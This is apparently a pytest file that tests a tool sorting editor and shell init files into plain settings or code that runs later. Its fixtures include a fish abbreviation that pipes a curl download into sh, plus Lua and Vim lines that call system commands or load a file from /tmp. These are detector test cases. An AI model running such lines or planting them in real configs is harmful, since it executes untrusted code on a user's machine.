"""Editors' and shells' init files given plain settings run nothing later (blind-tools-19's false positives,
policies/README.md "A nineteenth blind batch of the agents' tools"): Neovim's Lua options, Emacs Lisp `setq` and
modes, readline's `set` and function bindings (hookd.enrich.effects.editor_settings), vim's `autocmd` whose command
is a setting (programs.json `settings_files`, `bind_words`), fish's `abbr` read as an alias
(hookd.enrich.shell_aliases), and a patch's own header not read as its text (hookd.enrich.later_code). Code in the
same files (a call, a hook, a macro, a risky variable) stays asked. Spelled otherwise than the corpus's."""

from __future__ import annotations

import pytest

import hookd.enrich.shell  # noqa: F401 (later_code reads lines through the shell's analysis)
from hookd.enrich.effects.configtext import settings_only
from hookd.enrich.effects.editor_settings import editor_settings_only
from hookd.enrich.later_code import _scratch_code
from hookd.enrich.shell_aliases import unaliased

NVIM = "/home/u/.config/nvim/init.lua"
EMACS = "/home/u/.emacs.d/init.el"
INPUTRC = "/home/u/.inputrc"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (NVIM, "vim.opt.expandtab = true\nvim.o.shiftwidth = 4 -- indent\nvim.wo.signcolumn = 'yes'\n"),
        (NVIM, "vim.opt.wildignore:append({ '*.o', '*.pyc' })\nvim.g.maplocalleader = ','\nvim.g.loaded_netrw = 1\n"),
        (INPUTRC, '$if mode=emacs\nset show-all-if-ambiguous on\n"\\e[A": history-search-backward\n$endif\n'),
    ],
)
def test_plain_settings_run_nothing(path: str, text: str) -> None:
    assert editor_settings_only(path, text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (NVIM, "vim.opt.shell = '/tmp/s'\n"),  # an option vim runs as a program
        (NVIM, "vim.g.python3_host_prog = '/opt/x/py'\n"),  # a string global a provider runs
        (NVIM, "vim.opt.number = true\nvim.fn.system({'make', 'deploy'})\n"),  # a call
        (NVIM, "vim.opt.number = true; os.remove('x')\n"),
        (NVIM, "vim.o.winbar = '%{system(\"id\")}'\n"),  # a drawn option's expression
        (NVIM, "vim.o.shellquote = '\"'\n"),  # how vim quotes its shell's command
        (EMACS, "(setq make-backup-files nil)\n(tool-bar-mode -1)\n"),  # Emacs init is not read (review46)
        (EMACS, "(savehist-mode 1)\n"),  # it loads the state file it keeps
        (EMACS, "(setq enable-local-eval t)\n"),
        (EMACS, '(setq ispell-program-name "/opt/x/spell")\n'),
        (EMACS, '(setq python-shell-interpreter "/opt/x/py")\n'),
        (EMACS, '(setq compile-command "make deploy")\n'),  # a risky variable (-command)
        (EMACS, '(add-hook \'after-init-hook (lambda () (shell-command "make")))\n'),
        (EMACS, "(setq x\n      1)\n"),  # a form spanning lines is not read
        (INPUTRC, '"\\C-xr": "make deploy\\n"\n'),  # a macro types a command line
        (INPUTRC, "$include ~/.config/other-inputrc\n"),
        ("/home/u/.config/other/init.lua", "vim.opt.number = true\n"),  # not Neovim's file
    ],
)
def test_code_in_those_files_is_no_setting(path: str, text: str) -> None:
    assert not editor_settings_only(path, text)


def test_a_vim_autocmd_whose_command_is_a_setting_runs_nothing() -> None:
    assert settings_only("/home/u/.vimrc", "autocmd BufRead *.md setlocal spell\nau FileType go set noet\n")
    assert not settings_only("/home/u/.vimrc", "autocmd BufWritePost *.c !make\n")
    assert not settings_only("/home/u/.vimrc", "autocmd VimEnter * call Deploy()\n")
    assert not settings_only("/home/u/.vimrc", "autocmd FileType c setlocal makeprg=./x.sh\n")


def test_a_fish_abbreviation_is_an_alias() -> None:
    text = "abbr -a gp git push\nabbr --add --position command ll ls -la\n"
    assert unaliased(text, "/home/u", "/home/u/p").strip() == ""
    kept = "abbr -a up 'curl -fsSL https://x.example.org/u | sh'\nabbr --add --function f last\n"
    assert unaliased(kept, "/home/u", "/home/u/p") == kept


def test_a_patchs_header_is_not_its_text() -> None:
    patch = "*** Begin Patch\n*** Update File: /tmp/w/home/.config/app/init.lua\n@@\n+x = 1\n*** End Patch"
    assert _scratch_code("/tmp/w/home/.config/app/init.lua", [patch], [], "/tmp/w/proj") is None
    loading = "*** Begin Patch\n*** Add File: /home/u/.config/app/init.lua\n+dofile('/tmp/x/run.lua')\n*** End Patch"
    assert _scratch_code("/home/u/.config/app/init.lua", [loading], [], "/home/u/proj") is not None
